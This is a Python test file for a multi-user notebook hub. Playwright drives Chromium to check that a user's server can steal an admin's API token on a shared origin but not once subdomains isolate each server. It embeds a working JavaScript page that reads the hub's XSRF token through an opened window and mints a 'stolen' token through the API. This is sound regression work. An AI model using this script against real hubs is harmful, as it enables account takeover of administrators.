"""A user's server against its visitors, in Chromium: the attack of issue 12 (finding 2).

``courtyard serve`` (hub, built-in proxy on 127.0.0.1, LocalProcessSpawner, real
``courtyard-singleuser`` servers) serves a page from alice's server (an extra static path,
as a user could configure it) whose script tries to make an API token for whoever opens it:
it fetches ``/hub/home`` for the XSRF token, and opens ``/hub/home`` in a window it can read.
The admin opens it.

- On a shared origin the fetch finds no token (pages sign in only top-level navigations),
  but the window does: the attack succeeds, which proves the test real and is why
  ``subdomain_host`` exists.
- With ``subdomain_host = "http://localhost:PORT"`` alice's server lives on
  ``alice.localhost:PORT`` (``*.localhost`` resolves to loopback in Chromium): alice
  reaches JupyterLab there through OAuth between the two origins, and the same attack
  gets nothing.
"""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from courtyard.subdomains import dns_label
from tests.conftest import ADMIN_TOKEN, free_port, tool_missing

from .conftest import ROOT, SingleUserEnv

CHROMIUM = "/usr/bin/chromium"
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync",
         "--disable-dev-shm-usage"]
UI_TIMEOUT = 120_000  # ms

pytestmark = pytest.mark.timeout(600)

ATTACK = """<!doctype html>
<html><head><meta charset="utf-8"><title>Nice plots</title></head><body>
<button id="go">Show the plots</button><pre id="out">waiting</pre>
<script>
const hub = new URLSearchParams(location.search).get("hub");
const results = {};

async function mint(user, xsrf, how) {
  const r = await fetch(`${hub}/hub/api/users/${encodeURIComponent(user)}/tokens`, {
    method: "POST", credentials: "include",
    headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"},
    body: JSON.stringify({note: `stolen by ${how}`})});
  return r.status;
}

function found(doc) {
  const body = doc && doc.body;
  return body && body.dataset.xsrf && body.dataset.user
    ? {user: body.dataset.user, xsrf: body.dataset.xsrf} : null;
}

async function byFetch() {
  try {
    const r = await fetch(`${hub}/hub/home`, {credentials: "include"});
    const doc = new DOMParser().parseFromString(await r.text(), "text/html");
    const got = found(doc);
    return got ? await mint(got.user, got.xsrf, "fetch") : "no token in the page";
  } catch (e) { return `refused: ${e.name}`; }
}

async function byWindow() {
  const w = window.open(`${hub}/hub/home`, "hubwindow");
  if (!w) return "no window";
  for (let i = 0; i < 100; i++) {
    await new Promise((done) => setTimeout(done, 100));
    let got = null;
    try { got = found(w.document); } catch (e) { w.close(); return `refused: ${e.name}`; }
    if (got) { w.close(); return await mint(got.user, got.xsrf, "window"); }
  }
  w.close();
  return "no token in the window";
}

document.getElementById("go").addEventListener("click", async () => {
  results.fetch = await byFetch();
  results.window = await byWindow();
  document.getElementById("out").textContent = JSON.stringify(results);
});
</script></body></html>
"""


def serve(tmp_path: Path, db_url: str, su_env: SingleUserEnv, subdomains: bool
          ) -> Iterator[tuple[str, str]]:
    """``courtyard serve`` on free ports; yields (hub URL for browsers, hub API URL)."""
    port, hub_port, api_port = free_port(), free_port(), free_port()
    # readable by alice's system user (pytest's tmp_path is not, as root)
    shared = Path(tempfile.mkdtemp(prefix="attack-", dir=su_env.src.parent))
    static = shared / "static"  # alice's server serves it at /user/alice/static/
    static.mkdir()
    (static / "plots.html").write_text(ATTACK)
    server_config = shared / "server-config"
    server_config.mkdir()
    (server_config / "jupyter_server_config.py").write_text(
        f"c.ServerApp.extra_static_paths = [{str(static)!r}]\n")
    for path in (shared, static, server_config):
        path.chmod(0o755)
    for path in (static / "plots.html", server_config / "jupyter_server_config.py"):
        path.chmod(0o644)
    public = f"http://localhost:{port}" if subdomains else f"http://127.0.0.1:{port}"
    config = tmp_path / "courtyard_config.py"
    config.write_text(f"""
c.Courtyard.port = {port}
c.Courtyard.hub_port = {hub_port}
c.Courtyard.db_url = {db_url!r}
c.Courtyard.data_files_path = "{tmp_path}"
c.Courtyard.authenticator_class = "dummy"
c.Courtyard.api_tokens = {{"{ADMIN_TOKEN}": "admin"}}
c.Authenticator.admin_users = {{"admin"}}
c.BuiltinProxy.api_url = "http://127.0.0.1:{api_port}"
c.BuiltinProxy.workers = 1
c.Courtyard.cleanup_proxy = True
c.Spawner.cmd = {su_env.courtyard_cmd!r}
c.Spawner.environment = {{"JUPYTER_CONFIG_PATH": "{server_config}"}}
c.Spawner.http_timeout = 90
c.Courtyard.slow_spawn_timeout = 120  # a start request waits for the outcome: 201, never 202
c.LocalProcessSpawner.create_system_users = {ROOT}
""" + (f'c.Courtyard.subdomain_host = "{public}"\n' if subdomains else ""))
    log = (tmp_path / "hub.log").open("wb")
    proc = subprocess.Popen([sys.executable, "-m", "courtyard", "serve", "-f", str(config)],
                            cwd=tmp_path, stdout=log, stderr=subprocess.STDOUT)
    api = f"http://127.0.0.1:{hub_port}/hub/api"
    deadline = time.monotonic() + 60
    try:
        while True:  # up once the hub answers through its proxy
            try:
                if httpx.get(f"http://127.0.0.1:{port}/hub/api/",
                             trust_env=False).status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            if proc.poll() is not None or time.monotonic() > deadline:
                raise AssertionError("courtyard serve did not come up:\n" +
                                     (tmp_path / "hub.log").read_text()[-3000:])
            time.sleep(0.1)
        yield public, api
    finally:
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(30)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
        log.close()


@pytest.fixture
def shared_hub(tmp_path: Path, db_url: str, su_env: SingleUserEnv) -> Iterator[tuple[str, str]]:
    yield from serve(tmp_path, db_url, su_env, subdomains=False)


@pytest.fixture
def subdomain_hub(tmp_path: Path, db_url: str, su_env: SingleUserEnv
                  ) -> Iterator[tuple[str, str]]:
    yield from serve(tmp_path, db_url, su_env, subdomains=True)


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    if not os.access(CHROMIUM, os.X_OK):
        tool_missing("Chromium is not installed (apt-get install chromium fonts-dejavu-core)")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:  # pragma: no cover - CI installs it
        tool_missing("Playwright is not installed (pip install playwright)")
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS, headless=True)
        yield browser
        browser.close()


def sign_in(page: Any, hub: str, name: str) -> None:
    page.goto(f"{hub}/hub/login")
    page.fill("input[name=username]", name)
    page.fill("input[name=password]", "any")
    page.click("form button[type=submit]")
    page.wait_for_load_state()


def start(api: httpx.Client, user: str) -> None:
    assert api.post(f"/users/{user}").status_code == 201
    assert api.post(f"/users/{user}/server").status_code == 201
    deadline = time.monotonic() + 120
    while not api.get(f"/users/{user}").json()["servers"].get("", {}).get("ready"):
        assert time.monotonic() < deadline, api.get(f"/users/{user}/server/logs").text
        time.sleep(0.2)


def admin_opens(chromium: Any, hub: str, url: str, tmp_path: Path) -> dict[str, Any]:
    """The admin, signed in to the hub, opens ``url`` and clicks; what the script got."""
    import json

    context = chromium.new_context()
    page = context.new_page()
    try:
        sign_in(page, hub, "admin")
        page.goto(url)
        page.click("#go")
        page.wait_for_function("document.getElementById('out').textContent !== 'waiting'",
                               timeout=60_000)
        return json.loads(page.inner_text("#out"))
    except BaseException:
        page.screenshot(path=str(tmp_path / "admin-failure.png"))
        raise
    finally:
        context.close()


def stolen(api: httpx.Client) -> list[str]:
    tokens = api.get("/users/admin/tokens").json()["api_tokens"]
    return sorted(t["note"] for t in tokens if (t["note"] or "").startswith("stolen"))


def test_on_a_shared_origin_a_server_still_acts_as_its_visitor(
        shared_hub: tuple[str, str], chromium: Any, uname: Callable[[str], str],
        tmp_path: Path) -> None:
    hub, api_url = shared_hub
    alice = uname("alice")
    with httpx.Client(base_url=api_url, trust_env=False, timeout=60,
                      headers={"Authorization": f"token {ADMIN_TOKEN}"}) as api:
        start(api, alice)
        got = admin_opens(chromium, hub, f"{hub}/user/{alice}/static/plots.html?hub={hub}",
                          tmp_path)
        # closed: a script's fetch of a hub page is not signed in, so it has no token
        assert got["fetch"] == "no token in the page"
        # open: a window on the same origin is the hub's page itself; only separate
        # origins (subdomain_host) stop this, which is why the hub warns at start
        assert got["window"] == 201
        assert stolen(api) == ["stolen by window"]
    assert "c.JupyterHub.subdomain_host is not set" in (tmp_path / "hub.log").read_text()


def test_with_subdomains_each_server_has_its_own_origin(
        subdomain_hub: tuple[str, str], chromium: Any, uname: Callable[[str], str],
        tmp_path: Path) -> None:
    hub, api_url = subdomain_hub
    port = hub.rsplit(":", 1)[1]
    alice = uname("alice")
    alice_origin = f"http://{dns_label(alice)}.localhost:{port}"
    with httpx.Client(base_url=api_url, trust_env=False, timeout=60,
                      headers={"Authorization": f"token {ADMIN_TOKEN}"}) as api:
        assert api.post(f"/users/{alice}").status_code == 201
        context = chromium.new_context()
        page = context.new_page()
        try:
            # alice signs in on the hub's host; user-redirect starts her server and sends
            # her to its own origin, where OAuth with the hub signs her in to JupyterLab
            sign_in(page, hub, alice)
            page.goto(f"{hub}/hub/user-redirect/lab", timeout=UI_TIMEOUT)
            page.wait_for_url(f"{alice_origin}/user/{alice}/lab**", timeout=UI_TIMEOUT)
            page.locator(".jp-LauncherCard").first.wait_for(timeout=UI_TIMEOUT)
            domains: dict[str, set[str]] = {}
            for cookie in context.cookies():
                domains.setdefault(cookie["name"], set()).add(cookie["domain"])
            # the hub's cookies are host-only on its host; the server's, on its own
            assert domains["jupyterhub-hub-login"] == {"localhost"}
            assert domains["jupyterhub-session-id"] == {"localhost"}
            assert domains[f"jupyterhub-user-{alice}"] == {f"{dns_label(alice)}.localhost"}
            # the home page's button opens the server on its origin
            page.goto(f"{hub}/hub/home")
            assert page.get_attribute("a.button.primary", "href") == \
                f"{alice_origin}/user/{alice}/"
        except BaseException:
            page.screenshot(path=str(tmp_path / "alice-failure.png"))
            shutil.copy(tmp_path / "alice-failure.png", "/tmp/courtyard-subdomain-failure.png")
            raise
        finally:
            context.close()

        got = admin_opens(chromium, hub,
                          f"{alice_origin}/user/{alice}/static/plots.html?hub={hub}", tmp_path)
        assert got == {"fetch": "refused: TypeError", "window": "refused: SecurityError"}
        assert stolen(api) == []
    assert "subdomain_host is not set" not in (tmp_path / "hub.log").read_text()


def test_disable_user_config_leaves_out_everything_in_the_home(
        su_env: SingleUserEnv, tmp_path: Path) -> None:
    """``JUPYTERHUB_DISABLE_USER_CONFIG``: no config, no JupyterLab extension or kernel, no
    user site-packages from the user's home, whose code would run in visitors' browsers or
    in the server."""
    import json

    home = tmp_path / "home"
    for place in (".jupyter", ".local/share/jupyter/labextensions/evil",
                  ".local/etc/jupyter", "notes/jupyter"):
        (home / place).mkdir(parents=True)
    probe = ("import json, sys; from courtyard.singleuser import _disable_user_config; "
             "_disable_user_config(); from jupyter_core import paths; "
             "print(json.dumps(paths.jupyter_path() + paths.jupyter_config_path() + sys.path))")
    env = {"HOME": str(home), "PATH": os.defpath, "PYTHONPATH": str(su_env.src),
           "JUPYTER_PATH": f"{home}/notes/jupyter:/srv/shared/jupyter"}
    out = subprocess.run([str(su_env.python), "-c", probe], env=env, capture_output=True,
                         text=True, check=True).stdout
    paths = json.loads(out)
    assert "/srv/shared/jupyter" in paths  # the admin's own places stay
    assert [p for p in paths if p.startswith(str(home))] == []
